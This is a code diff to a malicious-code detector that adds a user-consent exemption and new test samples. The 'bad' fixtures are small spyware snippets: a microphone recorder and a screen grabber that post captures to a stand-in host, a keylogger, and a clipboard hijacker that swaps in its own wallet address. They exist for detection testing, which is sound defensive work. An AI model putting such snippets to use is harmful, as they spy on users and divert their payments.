@@ -23,6 +23,7 @@ from codeguard.checks.malicious._writes import writes
 from codeguard.knowledge.malicious import channels, stores
 from codeguard.model import Confidence, Severity
 from codeguard.syntax.unit import Unit
+from codeguard.syntax.walk import descend
 
 SETTERS = {"pyperclip.copy", "clipboard.copy", "win32clipboard.SetClipboardText", "win32clipboard.SetClipboardData"}
 SETTER_METHODS = ("clipboard_append", "setText")  # of tkinter and Qt
@@ -62,6 +63,8 @@ def find(unit: Unit) -> Iterator[Hit]:
     sent = False
     for sending in unit.fact(sendings):
         taken = sending.has("keys", "screen", "clipboard", "camera", "microphone")
+        if taken and not sending.has("keys") and _agreed(sending.call, unit):
+            continue
         if taken and (sending.fixed or sending.has("keys") or sending.how != "HTTP"):
             sent = True
             yield Hit(
@@ -116,6 +119,24 @@ def find(unit: Unit) -> Iterator[Hit]:
                 )
 
 
+def _agreed(call: cst.Call, unit: Unit) -> bool:
+    """Whether the call runs only where the user, asked by the same function, has said yes."""
+    asked = [c for _, c in unit.fact(calls).of(stores.CONSENT_CALLS)]
+    function = unit.function_of(call) if asked else None
+    for question in asked:
+        test = next((above for above in unit.ancestors(question) if isinstance(above, cst.If)), None)
+        if test is None or unit.function_of(question) is not function:
+            continue
+        if any(part is question for part in descend(test.test)):
+            if any(above is test.body for above in unit.ancestors(call)):
+                return True
+            last = test.body.body[-1] if test.body.body else None
+            last = last.body[-1] if isinstance(last, cst.SimpleStatementLine) else last
+            if isinstance(last, (cst.Return, cst.Raise)) and isinstance(test.test, cst.UnaryOperation):
+                return True
+    return False
+
+
 def _watched(command: Command) -> str:
     """What a program that is run takes of the screen, the camera, the microphone or the keyboard; empty for nothing."""
     return next((what for pattern, _, what in stores.WATCH_COMMANDS if pattern.search(command.text)), "")
@@ -139,7 +160,8 @@ def _replaced_addresses(unit: Unit) -> Iterator[Hit]:
     if not setters:
         return
     for call, value in setters:
-        direct = any(WALLET_ADDRESS.match(text) for text in flow.constants(value)) and (
+        texts = flow.constants(value) + _listed(value, unit)
+        direct = any(WALLET_ADDRESS.match(text) for text in texts) and (
             "clipboard" in flow.kinds(value) or _depends_on_clipboard(call, unit)
         )
         if direct or ("clipboard" in flow.kinds(value) and _exchanges(unit)):
@@ -148,6 +170,19 @@ def _replaced_addresses(unit: Unit) -> Iterator[Hit]:
                 "This puts the address of a wallet of its own where the user has copied another: his payments go elsewhere",
             )
             return
+
+
+def _listed(node: cst.BaseExpression, unit: Unit) -> list[str]:
+    """The texts of the table that a loop takes a name from."""
+    if not isinstance(node, cst.Name):
+        return []
+    tables = [
+        binding.node.iter
+        for binding in unit.scopes.look_up(node.value, node)
+        if isinstance(binding.node, (cst.For, cst.CompFor))
+    ]
+    rows = [row for table in tables for row in value_of(table, unit) or ()]
+    return [t for row in rows for t in (row if isinstance(row, (list, tuple)) else [row]) if isinstance(t, str)]
 
 
 def _exchanges(unit: Unit) -> bool:
@@ -187,8 +222,6 @@ def _depends_on_clipboard(call: cst.Call, unit: Unit) -> bool:
 
 
 def _mentions_clipboard(test: cst.BaseExpression, unit: Unit) -> bool:
-    from codeguard.syntax.walk import descend  # noqa: PLC0415
-
     flow = unit.fact(reach)
     return any("clipboard" in flow.kinds(part) for part in descend(test) if isinstance(part, (cst.Name, cst.Call)))
 
@@ -222,6 +255,12 @@ CHECK = Check(
             "import io, requests, time\nfrom PIL import ImageGrab\nwhile True:\n    b = io.BytesIO()\n    ImageGrab.grab().save(b, 'PNG')\n    img = ImageGrab.grab()\n    requests.post('https://k.example.invalid/s', files={'f': img.tobytes()})  # finding\n    time.sleep(60)\n"
         ),
         Bad(
+            "import asyncio, aiohttp, sounddevice\n\nclass Ear:\n    def take(self):\n        return sounddevice.rec(90000, samplerate=9000, channels=1).tobytes()\n\nasync def listen():\n    ear = Ear()\n    async with aiohttp.ClientSession() as s:\n        while True:\n            await s.post('https://k.example.invalid', data=await asyncio.to_thread(ear.take))  # finding\n"
+        ),
+        Bad(
+            "import re, tkinter\nPAIRS = {'^0x[0-9a-f]{40}$': '0x' + '0' * 40}\n\ndef swap():\n    root = tkinter.Tk()\n    while True:\n        held = root.clipboard_get()\n        for rule, own in PAIRS.items():\n            if re.match(rule, held):\n                root.clipboard_append(own)  # finding\n"
+        ),
+        Bad(
             "import keyboard\n\ndef note(e):\n    with open('/tmp/.k', 'a') as f:\n        f.write(e.name)  # finding\n\nkeyboard.on_release(callback=note)\n"
         ),
         Bad(
@@ -230,6 +269,12 @@ CHECK = Check(
     ),
     good=(
         Good("import subprocess\nsubprocess.run(['scrot', 'shot.png'], check=True)\n"),
+        Good(
+            "import io, requests\nfrom tkinter import messagebox\nfrom PIL import ImageGrab\n\ndef report():\n    shot = io.BytesIO()\n    ImageGrab.grab().save(shot, 'PNG')\n    if not messagebox.askyesno('Report', 'Send this picture?'):\n        return\n    requests.post('https://s.example.invalid', files={'f': shot.getvalue()}, timeout=9)\n"
+        ),
+        Good(
+            "import tkinter\nWORDS = (('colour', 'color'), ('grey', 'gray'))\n\ndef respell():\n    root = tkinter.Tk()\n    text = root.clipboard_get()\n    for old, new in WORDS:\n        if text == old:\n            root.clipboard_append(new)\n"
+        ),
         Good(
             "import tkinter as tk, requests\nroot = tk.Tk()\nentry = tk.Entry(root)\nentry.bind('<Return>', lambda event: requests.post('https://chat.example.invalid', json={'t': entry.get()}, timeout=9))\n"
         ),
